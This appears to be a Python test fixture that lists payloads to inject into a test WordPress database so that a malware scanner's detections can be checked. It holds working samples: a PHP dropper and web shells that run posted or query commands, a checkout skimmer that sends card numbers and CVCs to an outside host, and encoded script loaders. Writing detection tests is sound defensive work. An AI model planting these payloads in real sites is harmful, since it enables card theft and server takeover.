"""The payloads injected into the test WordPress database, by where they go.

Each is modelled on injections seen on hacked sites: loaders hidden with
base64 or character codes, hidden iframes, spam link blocks, a checkout
skimmer and PHP backdoors for options and cron events.
"""

from __future__ import annotations

import base64
import zlib


def b64(text: str) -> str:
    """``text`` in base64, as injected payloads carry it."""
    return base64.b64encode(text.encode()).decode()


LOADER = "var s=document.createElement('script');s.src='https://stats-cdn.top/j.js';"
DROPPER = (
    "<?php if(isset($_POST['z'])){@eval(base64_decode($_POST['z']));} "
    "file_put_contents(ABSPATH.'wp-includes/class-wp-cache.php', "
    "file_get_contents('https://evil.example/shell.txt')); ?>"
)
HTTP_CODES = ",".join(str(ord(char)) for char in "https://statistic.top/j.js")
OBFUSCATED = (
    "<script>var _0x3f2a=['log','Hello','createElement'];(function(_0x1b2c3d,_0x3f2a1e)"
    "{var _0x4d5e6f=function(_0x7a8b9c){while(--_0x7a8b9c){_0x1b2c3d['push']"
    "(_0x1b2c3d['shift']());}};_0x4d5e6f(++_0x3f2a1e);}(_0x3f2a,0x1a3));var _0x4d5e="
    "function(_0x1b2c3d,_0x3f2a1e){_0x1b2c3d=_0x1b2c3d-0x0;var _0x4d5e6f=_0x3f2a"
    "[_0x1b2c3d];return _0x4d5e6f;};</script>"
)
SKIMMER = (
    "<script>document.addEventListener('submit',function(e){if(location.href.indexOf("
    "'checkout')<0)return;var f=e.target,d={};['billing_email','card_number','cvc']."
    "forEach(function(n){var i=f.querySelector('[name*=\"'+n+'\"]');if(i)d[n]=i.value;"
    "});(new Image()).src='https://js-cdn-static.top/i.gif?d='+btoa(JSON.stringify(d));"
    "},true);</script>"
)

POST_INJECTIONS: list[tuple[int, str, str, frozenset[str]]] = [
    (
        17,
        "post_content",
        '<script src="https://cdn-jquery.top/jquery.min.js"></script>',
        frozenset({"db_script_from_suspicious_host"}),
    ),
    (
        23,
        "post_content",
        f"<script>eval(atob('{b64(LOADER)}'));</script>",
        frozenset({"db_script_encoded_loader"}),
    ),
    (
        31,
        "post_content",
        '<iframe src="http://203.0.113.7/in.cgi?3" width="1" height="1" '
        'frameborder="0" style="visibility:hidden"></iframe>',
        frozenset({"db_hidden_iframe", "db_iframe_from_suspicious_host"}),
    ),
    (
        58,
        "post_content",
        '<div style="position:absolute;left:-9999px;top:-9999px">'
        '<a href="https://cheap-pills.example/viagra">buy viagra online</a> '
        '<a href="https://cheap-pills.example/cialis">cialis 20mg</a> '
        '<a href="https://casino-royal.example/">online casino bonus</a> '
        '<a href="https://quick-cash.example/">payday loans</a></div>',
        frozenset({"db_hidden_spam_links"}),
    ),
    (
        64,
        "post_content",
        "<script>var s=document.createElement('script');s.src=String.fromCharCode("
        f"{HTTP_CODES});document.getElementsByTagName('head')[0].appendChild(s);"
        "</script>",
        frozenset(
            {
                "db_script_dynamic_loader",
                "db_script_charcode_payload",
                "db_script_encoded_loader",
            }
        ),
    ),
    (
        77,
        "post_title",
        "<script src=//statcounter-js.top/c.js></script>",
        frozenset({"db_markup_in_title", "db_script_from_suspicious_host"}),
    ),
    (125, "post_content", OBFUSCATED, frozenset({"db_obfuscator_io_javascript"})),
    (
        88,
        "post_content",
        "[insert_php]eval(base64_decode('aWYoaXNzZXQoJF9HRVRbJ2NtZCddKSl7c3lzdGVtKCRf"
        "R0VUWydjbWQnXSk7fQ=='));[/insert_php]",
        frozenset({"db_php_encoded_eval"}),
    ),
    (
        10_150,
        "post_content",
        f'<img src="x" onerror="eval(atob(\'{b64("location=1")}\'))">',
        frozenset({"db_event_handler_payload", "db_script_encoded_loader"}),
    ),
]

CRON_PAYLOAD_ARG = (
    "eval(base64_decode('ZmlsZV9wdXRfY29udGVudHMoJ3dwLWxvZ2luLnBocCcsIGJhc2U2NF9kZWNv"
    "ZGUoJF9QT1NUWydkJ10pKTs='));"
)
CRON_BASE64_HOOK = b64("eval(base64_decode($_POST['k']));")


def raw_deflate(text: str) -> bytes:
    """What PHP's gzdeflate() makes of ``text``."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    return compressor.compress(text.encode()) + compressor.flush()


CRON_DEFLATED_ARG = base64.b64encode(raw_deflate(DROPPER)).decode()
